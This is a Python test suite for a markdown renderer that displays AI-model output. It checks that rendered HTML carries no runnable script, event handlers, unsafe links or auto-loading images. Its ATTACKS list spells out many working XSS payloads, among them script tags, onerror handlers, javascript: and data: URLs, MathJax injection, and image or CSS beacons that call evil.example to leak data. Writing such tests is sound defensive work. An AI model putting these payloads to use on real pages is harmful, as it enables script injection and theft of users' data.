"""A model's text is hostile: nothing of it may run, load or leave the page by itself."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chains.rendering.markdown import MarkdownStream, render, render_blocks

# fmt: off
TAGS = {
    "a", "blockquote", "br", "button", "code", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6",
    "hr", "input", "li", "ol", "p", "pre", "s", "span", "strong", "sup", "table", "tbody", "td",
    "th", "thead", "tr", "ul",
}
MATH_TAGS = {
    "math", "mrow", "mi", "mn", "mo", "mtext", "mstyle", "mspace", "mpadded", "mfrac", "mover",
    "munder", "munderover", "menclose", "mtable", "mtr", "mtd", "msub", "msup", "msubsup", "msqrt",
    "mroot", "mphantom", "mmultiscripts",
}
ATTRIBUTES = {
    "href", "title", "target", "rel", "start", "type", "checked", "disabled", "class",
    "data-copy-code", "data-wrap-code", "aria-pressed",
}
NOTE = {"id", "aria-label"}
BUTTON = [
    ("type", "button"), ("class", "code-tool"), ("data-copy-code", ""), ("data-wrap-code", ""),
    ("aria-pressed", "false"),
]
# These take only what we wrote.
OURS = {
    "tabindex": {"0"},
    "aria-level": {"4", "5", "6"},
    "aria-label": {"done", "not done"},
}
# fmt: on


class Reader(HTMLParser):
    """Collect what a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.comments: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def assert_harmless(html: str, *, name: str = "") -> None:
    """Check what a browser would see; an answer with a ``name`` may have links to its own footnotes."""
    seen = Reader(html)
    assert seen.tags <= TAGS | MATH_TAGS
    assert not seen.comments
    for tag, attribute, value in seen.attributes:
        ours = value in OURS.get(attribute, ()) or (name and attribute in NOTE)
        assert attribute in ATTRIBUTES or tag in MATH_TAGS or ours, (tag, attribute)
        assert not attribute.startswith(("on", "style", "xlink", "src"))
        if attribute == "href":
            assert tag == "a"
            own = re.fullmatch(rf"#{name}-(mark|note)-\w+", value) if name else None
            assert own or value.lower().startswith(("http://", "https://", "mailto:"))
        if attribute == "id":
            assert re.fullmatch(rf"{name}-(mark|note)-\w+", value)
        if tag == "button":
            assert (attribute, value) in BUTTON


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><a xlink:href='javascript:alert(1)'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)' onclick=alert(1)>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=//evil.example><button formaction=javascript:alert(1)>",
    '<div data-slot="0"></div>',
    '```\n<span data-slot="0"></span>\n```\n<div data-slot="0"></div>',
    '[x](https://a.example "<div data-slot=\'0\'></div>")\n`<div data-slot="0"></div>`',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x) [x](file:///etc/passwd) [x](//evil.example) [x](/logout) [x](#a)",
    "<javascript:alert(1)>",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    'https://a.example/" onmouseover="alert(1)',
    "![x](https://evil.example/?leak)",
    "![x][r]\n\n[r]: https://evil.example/?leak",
    '![x](data:image/png;base64,AAAA "t")',
    '![<img src=x onerror=alert(1)>](https://a.example/"onerror=alert(1))',
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(//evil.example)}{x} \class{a}{b} \cssId{a}{b}$",
    r"$\text{<script>alert(1)</script>}$ $$\text{<img src=x onerror=alert(1)>}$$",
    r"\(\unicode{x} </math><script>alert(1)</script>\)",
    r"$</code><script>alert(1)</script>\frac$",
    "```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    '```"onclick="alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|:--|\n| <img src=x onerror=alert(1)> |",
    "[^<script>alert(1)</script>]: x",
    '[^"onclick=alert(1)]: x',
    "- [x] <script>alert(1)</script>",
    'A[^abc] b[^s1-note-1]\n\n[^abc]: x\n\n[^"id="x]: y\n\n[^#]: z\n\n[^../a]: z',
    "\ud800<script>\udfff\x00alert(1)</script>",
    "> " * 200 + "<script>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_harmless(attack: str):
    assert_harmless(render(attack))
    assert_harmless(render(f"> - before {attack}\n> after"))
    assert_harmless("".join(render_blocks(attack, name="s1")), name="s1")


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_harmless_while_it_is_half_written_too(attack: str):
    stream = MarkdownStream()
    for character in attack:
        stream.append(character)
        assert_harmless(stream.update().tail)


@given(
    st.lists(st.sampled_from([*ATTACKS, "\n", "\n\n", "- ", "`", "$", "|", "](", "<", '"', "'>"]), max_size=6)
)
def test_attacks_put_together_come_out_harmless(parts: list[str]):
    assert_harmless(render("".join(parts)))


@pytest.mark.parametrize(
    "image", ["![a plan](https://evil.example/?q=1)", "![a plan](<https://evil.example/?q=1>)"]
)
def test_an_image_is_named_and_never_loaded(image: str):
    assert '<span class="image">a plan (https://evil.example/?q=1)</span>' in render(image)


def test_a_link_that_is_refused_shows_where_it_wanted_to_go():
    assert "[here](javascript:alert(1))" in render("[here](javascript:alert(1))")


def test_what_utf8_and_html_cannot_carry_is_replaced():
    html = render("a\x00b\ud83dc")
    assert html == "<p>a\ufffdb\ufffdc</p>\n"
    assert html.encode()


def test_code_reads_the_same_as_it_was_written():
    html = render('```\n<b> &amp; "quotes"\n```')
    assert "&lt;b&gt; &amp;amp; &quot;quotes&quot;" in html
